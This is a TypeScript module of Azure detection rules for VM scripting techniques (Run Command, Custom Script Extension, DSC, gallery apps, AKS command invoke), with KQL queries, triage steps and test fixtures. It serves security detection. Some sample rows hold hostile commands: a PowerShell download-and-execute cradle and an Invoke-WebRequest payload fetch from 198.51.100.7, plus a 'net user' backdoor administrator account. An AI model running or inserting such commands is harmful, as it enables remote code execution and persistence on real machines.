// AZT301 Virtual Machine Scripting: code execution on VMs through the Azure control plane.
import * as kql from "../kql";
import type { Detection, ParameterValues, SampleCase, TechniqueModule } from "../model";
import { minutesAgo } from "../model";
import { ARRIVAL_PROJECTION, arrivalWindow, ingestedSinceLastRun, ingestionSchedule } from "../patterns/arrival";
import {
  ACTIVITY_LOG, ATRM, ATTACKER, CALLER_ENTITIES, VM_ID, activityRow, allowedCallers, anyRow, operationDetection, resourceId,
  ATTEMPT_QUERY_RANGE, scriptBlockDetection, startedCases,
} from "./shared";

const RUN_COMMAND_DOCS = "https://learn.microsoft.com/azure/virtual-machines/run-command-overview";
/** Where the Run Command outcome decision comes from. */
const RUN_COMMAND_SOURCES =
  "MicrosoftDocs/azure-compute-docs:articles/virtual-machines/linux/run-command.md@1a043fb3 (Restrictions: a script runs up to 90 minutes, " +
  "results need outbound connectivity, the script may run without returning them); MicrosoftDocs/azure-monitor-docs:articles/azure-monitor/" +
  "platform/activity-log-schema.md@0f6b93e0 (Administrative category: the start and the success or fail of every Write, Delete or Action " +
  "are recorded; subStatus Accepted is HTTP 202)";
const VMSS_ID = resourceId("rg-prod-app", "microsoft.compute", "virtualmachinescalesets/vmss-web");
const VMSS_INSTANCE_ID = `${VMSS_ID}/virtualmachines/3`;
/** The Start-row log search rules (extension writes, gallery assignment) run every 15 minutes over the rows ingested since the previous run. */
const START_ROW_RUN = "PT15M";

// ---------------------------------------------------------------------------------------------
// AZT301.1 RunCommand

/**
 * Run Command alerts when the run starts: a script runs up to 90 minutes, and one whose operation
 * ends Failed (time-out, no outbound connectivity to return results) has still run.
 */
const RUN_STARTED: NonNullable<Detection["revisions"]>[number] = {
  change:
    "Alerts once per run whatever its outcome: the activity-log alert on the run's Start event, the log search form in the run that " +
    "ingests the operation's first row (the Start row; query range PT3H so a 90-minute run's completion row finds it), instead of the Success row.",
  why:
    "A script runs up to 90 minutes and can run although the operation is reported failed or timed out (\"the scripts might run " +
    "successfully but not return the results\"); Azure logs a Start row for every write or action before its outcome, so the " +
    "alert no longer misses failed or timed-out runs and no longer waits up to 90 minutes for the outcome.",
  source: RUN_COMMAND_SOURCES,
};

const runCommand: Detection = {
  key: "azt301-1-runcommand",
  technique: "AZT301.1",
  tactic: "Execution",
  name: "Run Command executed on a virtual machine",
  description:
    "A principal started a script on a VM through Run Command (Microsoft.Compute/virtualMachines/runCommand/action). " +
    "The script runs as SYSTEM/root with no interactive logon, so it is a favoured way to execute code after " +
    "gaining Contributor or Virtual Machine Contributor on a subscription. The alert is raised on the run's Start row: " +
    "the script runs whether the operation later succeeds, fails or times out.",
  falsePositives: [
    "Administrators troubleshooting a VM without network access.",
    "Automation that uses Run Command for configuration (add its identity to allowlists.callers).",
    "A request refused for lack of permission, if Azure logs its Start row too (unverified): an attempt worth a look anyway.",
  ],
  triage: [
    "Identify the caller and source IP; confirm with the owner that the run was planned.",
    "Read the script: Run Command does not log its content in the Activity Log; check the VM's " +
      "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\<version>\\Downloads or " +
      "/var/lib/waagent/run-command/download, and PowerShell 4104 events (the azt301-1-runcommand-scriptblock variant).",
    "Check the outcome (rows with the same CorrelationId): a Failure row does not mean the script did not run.",
    "If unplanned: revoke the caller's sessions, review its role assignments, and treat the VM as compromised.",
  ],
  references: [`${ATRM}/AZT301/AZT301-1/`, RUN_COMMAND_DOCS],
  severity: 1,
  evaluationFrequency: "PT5M",
  windowSize: arrivalWindow("PT5M"),
  overrideQueryTimeRange: ATTEMPT_QUERY_RANGE,
  parameters: allowedCallers("use Run Command"),
  signal: {
    kind: "activityLog",
    match: { operations: ["Microsoft.Compute/virtualMachines/runCommand/action"], outcome: "attempted" },
    exclusions: [{ column: "Caller", parameter: "allowedCallers" }],
  },
  requires: ACTIVITY_LOG,
  entities: CALLER_ENTITIES,
  samples: {
    source: "log-values.md 1.1-1.3 (upper-case OperationNameValue, Start/Accept/Success sequence); ATRM AZT301.1; " + RUN_COMMAND_SOURCES,
    ...startedCases({}, "MICROSOFT.COMPUTE/VIRTUALMACHINES/RESTART/ACTION"),
  },
  revisions: [RUN_STARTED],
};

/** Managed run commands on Azure VMs and on Arc-enabled servers (same resource shape, same handler). */
const MANAGED_RUN_COMMAND_WRITES = ["Microsoft.Compute/virtualMachines/runCommands/write", "Microsoft.HybridCompute/machines/runCommands/write"];
const ARC_MACHINE_ID = resourceId("rg-onprem", "microsoft.hybridcompute", "machines/arc-sql-01");
const ARC_RUN_COMMAND = {
  OperationNameValue: "MICROSOFT.HYBRIDCOMPUTE/MACHINES/RUNCOMMANDS/WRITE", _ResourceId: `${ARC_MACHINE_ID}/runcommands/rc-patch`, ResourceProviderValue: "MICROSOFT.HYBRIDCOMPUTE",
};
const ARC_RUN_COMMAND_SOURCE =
  "MicrosoftDocs/azure-docs:articles/azure-arc/servers/run-command.md@941b3613 (running a command on an Arc-enabled server requires " +
  "Microsoft.HybridCompute/machines/runCommands/write)";

const managedRunCommand = operationDetection({
  key: "azt301-1-managed-runcommand",
  technique: "AZT301.1",
  name: "Managed Run Command created or updated on a virtual machine or Arc-enabled server",
  description:
    "A principal created or updated a managed Run Command resource on a VM (Microsoft.Compute/virtualMachines/runCommands/write) " +
    "or on an Azure Arc-enabled server (Microsoft.HybridCompute/machines/runCommands/write). Managed run commands (the v2 Run " +
    "Command API) execute their script as soon as they are written, as SYSTEM/root, " +
    "and are not covered by the runCommand/action operation the classic detection watches. The alert is raised on the " +
    "write's Start row: the script runs whether the write later succeeds, fails or times out.",
  falsePositives: [
    "Deployment pipelines or configuration tooling that provision VMs with managed run commands (allowlist their identities).",
    "Arc server management (patching, inventory) run through Run Command by operations teams (allowlist their identities).",
  ],
  triage: [
    "Identify the caller, source IP and the run command name (last segment of _ResourceId).",
    "Read the script: `az vm run-command show --instance-view` (or `az connectedmachine run-command show` for Arc) returns " +
      "its source and output; on Windows look under " +
      "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandHandlerWindows (path unverified) and in 4104 events.",
    "If unplanned: delete the run command, revoke the caller's sessions and treat the machine as compromised.",
  ],
  references: [
    `${ATRM}/AZT301/AZT301-1/`, "https://learn.microsoft.com/azure/virtual-machines/windows/run-command-managed",
    "https://learn.microsoft.com/azure/azure-arc/servers/run-command",
  ],
  severity: 1,
  operations: MANAGED_RUN_COMMAND_WRITES,
  allowlistPurpose: "create managed run commands",
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE",
    resourceId: `${VM_ID}/runcommands/rc-update`,
    resourceProvider: "MICROSOFT.COMPUTE",
  },
  otherOperation: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/DELETE",
  source: "log-values.md 1.3 (Start/Accept/Success), 1.5 (managed runCommands/write is logged, stratus-red-team [S12]); " +
    RUN_COMMAND_SOURCES + "; " + ARC_RUN_COMMAND_SOURCE,
  outcome: "attempted",
  extraFires: [
    {
      name: "run command written to an Arc-enabled server (Microsoft.HybridCompute)",
      rows: { AzureActivity: [activityRow(4, { ...ARC_RUN_COMMAND, ActivityStatusValue: "Start", ActivitySubstatusValue: "" })] },
    },
  ],
  extraQuiet: [
    {
      name: "run command deleted from an Arc-enabled server",
      rows: { AzureActivity: [activityRow(4, { ...ARC_RUN_COMMAND, OperationNameValue: "MICROSOFT.HYBRIDCOMPUTE/MACHINES/RUNCOMMANDS/DELETE", ActivityStatusValue: "Start", ActivitySubstatusValue: "" })] },
    },
  ],
  revisions: [
    RUN_STARTED,
    {
      change: "Also matches Microsoft.HybridCompute/machines/runCommands/write (Run Command on Azure Arc-enabled servers).",
      why: "Arc-enabled servers run scripts through the same managed Run Command resource; the rule watched only Azure VMs.",
      source: ARC_RUN_COMMAND_SOURCE,
    },
  ],
});

const runCommandScriptBlock = scriptBlockDetection({
  key: "azt301-1-runcommand-scriptblock",
  technique: "AZT301.1",
  name: "Run Command followed by PowerShell from the Run Command plugin on the same VM",
  description:
    "A Run Command (classic runCommand/action or managed runCommands/write, on a VM or an Arc-enabled server) was followed, within the maximum delay, " +
    "by PowerShell script blocks (event 4104) that ran from the Run Command plugin folder on that same VM. The alert " +
    "carries the script text the Activity Log never shows, and proves the script actually executed.",
  falsePositives: [
    "Planned administration through Run Command (allowlist automation callers).",
    "A second, unrelated Run Command on the same VM inside the delay would be attributed to both actions.",
  ],
  triage: [
    "Read ScriptExcerpt and ScriptPaths; pull every 4104 event of the listed ScriptBlockIds from the Event table for the full text.",
    "Confirm with the caller; check the source IP against known admin locations.",
    "If malicious: isolate the VM, revoke the caller's sessions, and hunt for the same script on other VMs.",
  ],
  references: [
    `${ATRM}/AZT301/AZT301-1/`,
    RUN_COMMAND_DOCS,
    "https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_logging_windows",
  ],
  severity: 0,
  operations: ["Microsoft.Compute/virtualMachines/runCommand/action", ...MANAGED_RUN_COMMAND_WRITES],
  scriptPathMarkers: [
    "\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows",
    // Managed run command handler (log-values.md 6: path unverified).
    "\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandHandlerWindows",
  ],
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    resourceId: VM_ID,
    scriptPath: "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.22\\Downloads\\script0.ps1",
    scriptText: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage.ps1')",
  },
  source:
    "log-values.md 1.1-1.4 (AzureActivity rows, latency), 6 (Event 4104 columns, EventData XML, RenderedDescription, " +
    "run command download path …\\1.1.22\\Downloads\\script0.ps1); ATRM AZT301.1",
});

// ---------------------------------------------------------------------------------------------
// AZT301.2 Custom Script Extension / AZT301.3 DSC: an extension write whose body names the type.

const EXTENSION_WRITES = [
  "Microsoft.Compute/virtualMachines/extensions/write",
  "Microsoft.Compute/virtualMachineScaleSets/extensions/write",
  "Microsoft.HybridCompute/machines/extensions/write",
];
/**
 * A scale set's model carries its extensions (virtualMachineProfile.extensionProfile.extensions), so
 * a write of the scale set itself adds one without any extensions/write operation: `az vmss
 * extension set` reads the scale set, appends the extension to the model and writes the scale set.
 */
const SCALE_SET_MODEL_WRITE = "Microsoft.Compute/virtualMachineScaleSets/write";
const SCALE_SET_MODEL_SOURCE =
  "Azure/azure-rest-api-specs:specification/compute/resource-manager/Microsoft.Compute/ComputeRP/stable/2024-07-01/virtualMachineScaleSet.json@b3120360 " +
  "(VirtualMachineScaleSetVMProfile.extensionProfile.extensions); Azure/azure-cli:src/command_modules/azure-cli-vm/azure/cli/command_modules/vm/" +
  "custom.py@b86023e9 (set_vmss_extension appends the extension to the scale set model and calls virtual_machine_scale_sets.create_or_update)";
const SCALE_SET_MODEL_REVISION = {
  change: "Also matches Start rows of Microsoft.Compute/virtualMachineScaleSets/write whose model (extensionProfile) lists the extension.",
  why: "An extension added through the scale set model (az vmss extension set, a template) logs a write of the scale set, not an extensions/write.",
  source: SCALE_SET_MODEL_SOURCE,
};

interface ExtensionSpec {
  /** Terms of the handler's `type` in the request body (matched with has_any). */
  typeTerms: string[];
  /** Lower-case fragment of the usual extension name, used when a Start row has no request body. */
  nameHint: string;
  /** Sample body of the Start row. */
  sampleBody: string;
  sampleExtension: string;
}

/**
 * The Start row of an extension write carries the request body (publisher, type, public settings;
 * protectedSettings masked — log-values.md 1.3); completion rows do not. Matching the Start row
 * also catches writes that then fail.
 */
function extensionWriteQuery(x: ExtensionSpec, p: ParameterValues): string {
  return [
    "AzureActivity",
    ingestedSinceLastRun(START_ROW_RUN),
    `| where CategoryValue =~ "Administrative"`,
    `| where OperationNameValue in~ ${kql.strList([...EXTENSION_WRITES, SCALE_SET_MODEL_WRITE])}`,
    `| where ActivityStatusValue in~ ("Start", "Started")`,
    `| extend RequestBody = tostring(Properties_d.requestbody), ExtensionName = extract(@"/extensions/([^/]+)$", 1, _ResourceId)`,
    `| where RequestBody has_any ${kql.strList(x.typeTerms)} or (isempty(RequestBody) and tolower(ExtensionName) contains ${kql.str(x.nameHint)})` +
      kql.excludeIn("Caller", p.allowedCallers as string[]),
    "// A scale set write counts when its model lists extensions; the excerpt then starts at the extension profile.",
    `| where OperationNameValue !~ ${kql.str(SCALE_SET_MODEL_WRITE)} or RequestBody has "extensionProfile"`,
    `| extend RequestExcerpt = substring(RequestBody, max_of(0, indexof(RequestBody, "extensionProfile")), 1000)`,
    `| project ${ARRIVAL_PROJECTION}, Caller, CallerIpAddress, OperationNameValue, ExtensionName, RequestExcerpt, _ResourceId, SubscriptionId, CorrelationId`,
  ].join("\n");
}

function extensionSamples(x: ExtensionSpec, source: string) {
  const extId = `${VM_ID}/extensions/${x.sampleExtension.toLowerCase()}`;
  const start = (minutes: number, over: Record<string, unknown> = {}) =>
    activityRow(minutes, {
      OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE",
      ActivityStatusValue: "Start",
      ActivitySubstatusValue: "",
      _ResourceId: extId,
      Properties_d: { eventCategory: "Administrative", message: "Microsoft.Compute/virtualMachines/extensions/write", requestbody: x.sampleBody },
      ...over,
    });
  const monitorBody = JSON.stringify({
    location: "westeurope",
    properties: { publisher: "Microsoft.Azure.Monitor", type: "AzureMonitorWindowsAgent", typeHandlerVersion: "1.22", autoUpgradeMinorVersion: true },
  });
  const modelWrite = (minutes: number, extensions: { name: string; body: string }[], over: Record<string, unknown> = {}) =>
    start(minutes, {
      OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE",
      _ResourceId: VMSS_ID,
      Properties_d: { eventCategory: "Administrative", message: SCALE_SET_MODEL_WRITE, requestbody: scaleSetModelBody(extensions) },
      ...over,
    });
  const fires: SampleCase[] = [
    { name: "extension write Start row with the handler type in the request body", rows: { AzureActivity: [start(5)] } },
    {
      name: "Start row without a request body, extension named after the handler",
      rows: { AzureActivity: [start(5, { Properties_d: { eventCategory: "Administrative" } })] },
    },
    { name: "late Start row: written 40 minutes ago, ingested 3 minutes ago", rows: { AzureActivity: [start(40, { _TimeReceived: minutesAgo(3) })] } },
    {
      name: "extension added through the scale set model (scale set write, no extensions/write)",
      rows: { AzureActivity: [modelWrite(5, [{ name: "azuremonitor", body: monitorBody }, { name: x.sampleExtension, body: x.sampleBody }])] },
    },
  ];
  const quiet: SampleCase[] = [
    { name: "scale set write that only changes the capacity", rows: { AzureActivity: [modelWrite(5, [], { Properties_d: { requestbody: JSON.stringify({ sku: { name: "Standard_D2s_v5", capacity: 5 } }) } })] } },
    { name: "scale set model with another extension only (Azure Monitor Agent)", rows: { AzureActivity: [modelWrite(5, [{ name: "azuremonitor", body: monitorBody }])] } },
    {
      name: "another extension (Azure Monitor Agent)",
      rows: { AzureActivity: [start(5, { _ResourceId: `${VM_ID}/extensions/azuremonitorwindowsagent`, Properties_d: { requestbody: monitorBody } })] },
    },
    {
      name: "completion row only (no request body, status Success)",
      rows: { AzureActivity: [start(5, { ActivityStatusValue: "Success", ActivitySubstatusValue: "OK", Properties_d: { statusCode: "OK" } })] },
    },
    { name: "extension write ingested 20 minutes ago: seen by the previous run", rows: { AzureActivity: [start(20)] } },
    { name: "allowlisted deployment identity", parameters: { allowedCallers: [ATTACKER] }, rows: { AzureActivity: [start(5)] } },
  ];
  return { source, fires, quiet };
}

/** A scale set PUT body whose model lists `extensions` (each {name, body of its own extension write}). */
function scaleSetModelBody(extensions: { name: string; body: string }[]): string {
  return JSON.stringify({
    location: "westeurope",
    sku: { name: "Standard_D2s_v5", tier: "Standard", capacity: 3 },
    properties: {
      upgradePolicy: { mode: "Automatic" },
      virtualMachineProfile: {
        extensionProfile: { extensions: extensions.map((e) => ({ name: e.name, properties: (JSON.parse(e.body) as { properties: unknown }).properties })) },
      },
    },
  });
}

const CSE: ExtensionSpec = {
  typeTerms: ["CustomScriptExtension", "CustomScript", "CustomScriptForLinux"],
  nameHint: "customscript",
  sampleExtension: "CustomScriptExtension",
  sampleBody: JSON.stringify({
    location: "westeurope",
    properties: {
      publisher: "Microsoft.Compute", type: "CustomScriptExtension", typeHandlerVersion: "1.10", autoUpgradeMinorVersion: true,
      settings: { fileUris: ["https://198.51.100.7/drop/install.ps1"] },
    },
  }),
};

const DSC: ExtensionSpec = {
  typeTerms: ["DSC", "DSCForLinux"],
  nameHint: "dsc",
  sampleExtension: "Microsoft.Powershell.DSC",
  sampleBody: JSON.stringify({
    location: "westeurope",
    properties: {
      publisher: "Microsoft.Powershell", type: "DSC", typeHandlerVersion: "2.83", autoUpgradeMinorVersion: true,
      settings: { configuration: { url: "https://198.51.100.7/drop/config.zip", script: "config.ps1", function: "Main" } },
    },
  }),
};

const customScriptExtension: Detection = {
  key: "azt301-2-custom-script-extension",
  technique: "AZT301.2",
  tactic: "Execution",
  name: "Custom Script Extension deployed to a virtual machine",
  description:
    "A principal wrote a Custom Script Extension (Windows CustomScriptExtension, Linux CustomScript) to a VM, scale set " +
    "or Arc machine, or wrote a scale set whose model lists it. The extension downloads and runs arbitrary commands as SYSTEM/root. The public settings " +
    "(fileUris, sometimes commandToExecute) are in RequestExcerpt; protectedSettings are masked.",
  falsePositives: [
    "Deployment pipelines and templates that bootstrap VMs with the Custom Script Extension (allowlist their identities).",
    "Any later full write of a scale set model that already lists the extension (a template redeploy) fires again.",
  ],
  triage: [
    "Read RequestExcerpt for fileUris and the command; fetch the referenced script if still reachable.",
    "Confirm the caller and source IP with the VM owner.",
    "On Windows inspect C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\<version>\\Downloads and " +
      "C:\\WindowsAzure\\Logs\\Plugins\\Microsoft.Compute.CustomScriptExtension; check the azt301-2-custom-script-extension-scriptblock alert.",
    "If unplanned: remove the extension, revoke the caller's sessions, treat the machine as compromised.",
  ],
  references: [`${ATRM}/AZT301/AZT301-2/`, "https://learn.microsoft.com/azure/virtual-machines/extensions/custom-script-windows"],
  severity: 1,
  ...ingestionSchedule(START_ROW_RUN),
  parameters: allowedCallers("deploy Custom Script Extensions"),
  signal: {
    kind: "query",
    query: (p) => extensionWriteQuery(CSE, p),
    trigger: anyRow("Caller", "CallerIpAddress", "_ResourceId"),
  },
  requires: ACTIVITY_LOG,
  entities: CALLER_ENTITIES,
  samples: extensionSamples(
    CSE,
    "log-values.md 1.3 (request body on the Start row, protectedSettings masked), 1.5 (EXTENSIONS/WRITE Start row [S12]); " +
      "custom-script-windows.md [S33] (publisher Microsoft.Compute, type CustomScriptExtension); ATRM AZT301.2; " + SCALE_SET_MODEL_SOURCE,
  ),
  revisions: [SCALE_SET_MODEL_REVISION],
};

const customScriptScriptBlock = scriptBlockDetection({
  key: "azt301-2-custom-script-extension-scriptblock",
  technique: "AZT301.2",
  name: "Extension write followed by PowerShell from the Custom Script Extension on the same VM",
  description:
    "An extension write on a VM, scale set or Arc machine was followed, within the maximum delay, by PowerShell " +
    "script blocks (4104) that ran from the Custom Script Extension plugin folder on that machine: the extension's " +
    "command actually executed, and the alert carries its script text. An inline commandToExecute that runs no script " +
    "file leaves no plugin path in the block and is not matched; azt301-2-custom-script-extension still sees the write.",
  falsePositives: ["Planned bootstrap scripts deployed through the extension (allowlist deployment identities)."],
  triage: [
    "Read ScriptExcerpt and ScriptPaths; pull the full 4104 text by ScriptBlockId.",
    "Compare with the extension's fileUris (azt301-2-custom-script-extension) and confirm with the owner.",
    "If malicious: isolate the machine, remove the extension, revoke the caller's sessions.",
  ],
  references: [`${ATRM}/AZT301/AZT301-2/`, "https://learn.microsoft.com/azure/virtual-machines/extensions/custom-script-windows"],
  severity: 1,
  operations: EXTENSION_WRITES,
  scriptPathMarkers: ["\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension"],
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE",
    resourceId: `${VM_ID}/extensions/customscriptextension`,
    scriptPath: "C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\Downloads\\0\\install.ps1",
    scriptText: "net user svc-backup P@ssw0rd! /add; net localgroup administrators svc-backup /add",
  },
  source: "log-values.md 1.1-1.4, 6 (4104 columns; Custom Script Extension download path …\\Downloads\\<n> [S33]); ATRM AZT301.2",
});

const dscExtension: Detection = {
  ...customScriptExtension,
  key: "azt301-3-dsc-extension",
  technique: "AZT301.3",
  name: "PowerShell DSC extension deployed to a virtual machine",
  description:
    "A principal wrote the Desired State Configuration extension (publisher Microsoft.Powershell, type DSC; Linux " +
    "DSCForLinux) to a VM, scale set or Arc machine, or wrote a scale set whose model lists it. The extension downloads a configuration package and applies it " +
    "as SYSTEM, which runs arbitrary PowerShell.",
  falsePositives: [
    "Configuration management through DSC deployed by templates or pipelines (allowlist their identities).",
    "Any later full write of a scale set model that already lists the extension (a template redeploy) fires again.",
  ],
  triage: [
    "Read RequestExcerpt for the configuration URL, script and function.",
    "Confirm the caller and source IP with the VM owner; fetch and review the configuration package.",
    "On the VM inspect C:\\Packages\\Plugins\\Microsoft.Powershell.DSC\\<version>; check the azt301-3-dsc-scriptblock alert.",
    "If unplanned: remove the extension, revoke the caller's sessions, treat the machine as compromised.",
  ],
  references: [`${ATRM}/AZT301/AZT301-3/`, "https://learn.microsoft.com/azure/virtual-machines/extensions/dsc-overview"],
  parameters: allowedCallers("deploy the DSC extension"),
  signal: {
    kind: "query",
    query: (p) => extensionWriteQuery(DSC, p),
    trigger: anyRow("Caller", "CallerIpAddress", "_ResourceId"),
  },
  samples: extensionSamples(
    DSC,
    "log-values.md 1.3 (request body on the Start row), 1.5 (EXTENSIONS/WRITE [S12]); DSC extension docs (publisher " +
      "Microsoft.Powershell, type DSC); ATRM AZT301.3; " + SCALE_SET_MODEL_SOURCE,
  ),
  revisions: [SCALE_SET_MODEL_REVISION],
};

const dscScriptBlock = scriptBlockDetection({
  key: "azt301-3-dsc-scriptblock",
  technique: "AZT301.3",
  name: "Extension write followed by PowerShell from the DSC extension on the same VM",
  description:
    "An extension write on a VM, scale set or Arc machine was followed, within the maximum delay, by PowerShell " +
    "script blocks (4104) from the Microsoft.Powershell.DSC plugin folder on that machine: a DSC configuration was " +
    "applied, and the alert carries its script text.",
  falsePositives: ["Planned DSC configuration rollouts (allowlist deployment identities)."],
  triage: [
    "Read ScriptExcerpt and ScriptPaths; pull the full 4104 text by ScriptBlockId.",
    "Compare with the configuration package named in the extension settings (azt301-3-dsc-extension).",
    "If malicious: isolate the machine, remove the extension, revoke the caller's sessions.",
  ],
  references: [`${ATRM}/AZT301/AZT301-3/`, "https://learn.microsoft.com/azure/virtual-machines/extensions/dsc-overview"],
  severity: 1,
  operations: EXTENSION_WRITES,
  scriptPathMarkers: ["\\Packages\\Plugins\\Microsoft.Powershell.DSC"],
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE",
    resourceId: `${VM_ID}/extensions/microsoft.powershell.dsc`,
    scriptPath: "C:\\Packages\\Plugins\\Microsoft.Powershell.DSC\\2.83.5\\DSCWork\\config.0\\config.ps1",
    scriptText: "Configuration Main { Node localhost { Script Drop { SetScript = { Invoke-WebRequest http://198.51.100.7/x.exe -OutFile C:\\x.exe } } } }",
  },
  source: "log-values.md 1.1-1.4, 6 (4104 columns; DSC plugin folder C:\\Packages\\Plugins\\Microsoft.Powershell.DSC\\<version>); ATRM AZT301.3",
});

// ---------------------------------------------------------------------------------------------
// AZT301.4 Compute Gallery Application

const GALLERY_APP_VERSION_ID = resourceId("rg-images", "microsoft.compute", "galleries/galprod/applications/toolkit/versions/1.0.7");

const galleryAppVersion = operationDetection({
  key: "azt301-4-gallery-app-version",
  technique: "AZT301.4",
  name: "Compute Gallery application version published",
  description:
    "A principal published a VM application version to an Azure Compute Gallery " +
    "(Microsoft.Compute/galleries/applications/versions/write). A version carries an install command that runs as " +
    "SYSTEM/root on every VM the application is assigned to: a new version is the payload stage of AZT301.4.",
  falsePositives: ["Image and application release pipelines (allowlist their identities)."],
  triage: [
    "Identify the caller and the application/version (_ResourceId); read the version's install/update commands and source blob.",
    "List the VMs and scale sets that reference the application (azt301-4-gallery-app-assigned).",
    "If unplanned: delete the version, revoke the caller's sessions.",
  ],
  references: [`${ATRM}/AZT301/AZT301-4/`, "https://learn.microsoft.com/azure/virtual-machines/vm-applications"],
  severity: 2,
  operations: ["Microsoft.Compute/galleries/applications/versions/write"],
  allowlistPurpose: "publish gallery application versions",
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/GALLERIES/APPLICATIONS/VERSIONS/WRITE",
    resourceId: GALLERY_APP_VERSION_ID,
    resourceProvider: "MICROSOFT.COMPUTE",
  },
  otherOperation: "MICROSOFT.COMPUTE/GALLERIES/APPLICATIONS/VERSIONS/DELETE",
  source: "log-values.md 1.3, 1.5 (galleries/applications/versions/write: logged by the write rule, no real row seen); ATRM AZT301.4",
});

function galleryAssignedQuery(p: ParameterValues): string {
  return [
    "AzureActivity",
    ingestedSinceLastRun(START_ROW_RUN),
    `| where CategoryValue =~ "Administrative"`,
    `| where OperationNameValue in~ ("Microsoft.Compute/virtualMachines/write", "Microsoft.Compute/virtualMachineScaleSets/write")`,
    `| where ActivityStatusValue in~ ("Start", "Started")`,
    "| extend RequestBody = tostring(Properties_d.requestbody)",
    `| where RequestBody has "galleryApplications"` + kql.excludeIn("Caller", p.allowedCallers as string[]),
    `| extend PackageReferenceId = extract(@'packageReferenceId"\\s*:\\s*"([^"]+)', 1, RequestBody)`,
    `| project ${ARRIVAL_PROJECTION}, Caller, CallerIpAddress, OperationNameValue, PackageReferenceId, _ResourceId, SubscriptionId, CorrelationId`,
  ].join("\n");
}

const galleryAssignBody = JSON.stringify({
  location: "westeurope",
  properties: {
    applicationProfile: {
      galleryApplications: [{ packageReferenceId: "/subscriptions/6f1a3c2e-0d4b-4c3f-9a53-2b1e6f0c9d11/resourceGroups/rg-images/providers/Microsoft.Compute/galleries/galprod/applications/toolkit/versions/1.0.7", order: 1 }],
    },
  },
});
const vmWrite = (minutes: number, over: Record<string, unknown> = {}) =>
  activityRow(minutes, {
    OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
    ActivityStatusValue: "Start",
    ActivitySubstatusValue: "",
    Properties_d: { eventCategory: "Administrative", requestbody: galleryAssignBody },
    ...over,
  });

const galleryAppAssigned: Detection = {
  key: "azt301-4-gallery-app-assigned",
  technique: "AZT301.4",
  tactic: "Execution",
  name: "Compute Gallery application assigned to a VM or scale set",
  description:
    "A VM or scale set write carried an applicationProfile.galleryApplications entry: the referenced gallery " +
    "application's install command will run as SYSTEM/root on the machine(s). Matched on the Start row, whose request body " +
    "holds the VM model.",
  falsePositives: [
    "Release pipelines assigning VM applications (allowlist their identities).",
    "Any later full PUT of a VM model that already lists gallery applications (e.g. a resize from a template) fires again.",
  ],
  triage: [
    "Identify the caller and the PackageReferenceId; review that application version's install command and package.",
    "Check whether the version itself was published recently (azt301-4-gallery-app-version) and by whom.",
    "If unplanned: remove the application from the VM model, revoke the caller's sessions, treat the machines as compromised.",
  ],
  references: [`${ATRM}/AZT301/AZT301-4/`, "https://learn.microsoft.com/azure/virtual-machines/vm-applications-how-to"],
  severity: 2,
  ...ingestionSchedule(START_ROW_RUN),
  parameters: allowedCallers("assign gallery applications to VMs"),
  signal: {
    kind: "query",
    query: galleryAssignedQuery,
    trigger: anyRow("Caller", "CallerIpAddress", "_ResourceId"),
  },
  requires: ACTIVITY_LOG,
  entities: CALLER_ENTITIES,
  samples: {
    source:
      "log-values.md 1.3 (request body on the Start row as Properties_d.requestbody; body content for VM writes unverified); " +
      "VM applications docs (applicationProfile.galleryApplications[].packageReferenceId); ATRM AZT301.4",
    fires: [
      { name: "VM write Start row assigning a gallery application", rows: { AzureActivity: [vmWrite(5)] } },
      {
        name: "scale set model write assigning a gallery application",
        rows: { AzureActivity: [vmWrite(5, { OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", _ResourceId: VMSS_ID })] },
      },
      { name: "late Start row: VM written 40 minutes ago, ingested 3 minutes ago", rows: { AzureActivity: [vmWrite(40, { _TimeReceived: minutesAgo(3) })] } },
    ],
    quiet: [
      {
        name: "VM write without gallery applications (resize)",
        rows: { AzureActivity: [vmWrite(5, { Properties_d: { requestbody: JSON.stringify({ properties: { hardwareProfile: { vmSize: "Standard_D4s_v5" } } }) } })] },
      },
      { name: "completion row of the same write (no body)", rows: { AzureActivity: [vmWrite(5, { ActivityStatusValue: "Success", Properties_d: { statusCode: "OK" } })] } },
      { name: "ingested 20 minutes ago: seen by the previous run", rows: { AzureActivity: [vmWrite(20)] } },
      { name: "allowlisted release pipeline", parameters: { allowedCallers: [ATTACKER] }, rows: { AzureActivity: [vmWrite(5)] } },
    ],
  },
};

// ---------------------------------------------------------------------------------------------
// AZT301.5 AKS Command Invoke

const aksCommandInvoke = operationDetection({
  key: "azt301-5-aks-command-invoke",
  technique: "AZT301.5",
  name: "AKS command invoke run on a cluster",
  description:
    "A principal ran `az aks command invoke` (Microsoft.ContainerService/managedClusters/runCommand/action): AKS starts a " +
    "command-<id> pod in the aks-command namespace that runs kubectl/helm/shell with cluster-admin-level credentials, " +
    "even on private clusters with no network path from the caller.",
  falsePositives: ["Operators managing private clusters through command invoke (allowlist their identities)."],
  triage: [
    "Identify the caller, source IP and cluster (_ResourceId).",
    "Fetch the command and output: `az aks command result --command-id …` while it is retained; with AKS audit logs " +
      "enabled, look for pods created in namespace aks-command and the API calls that followed.",
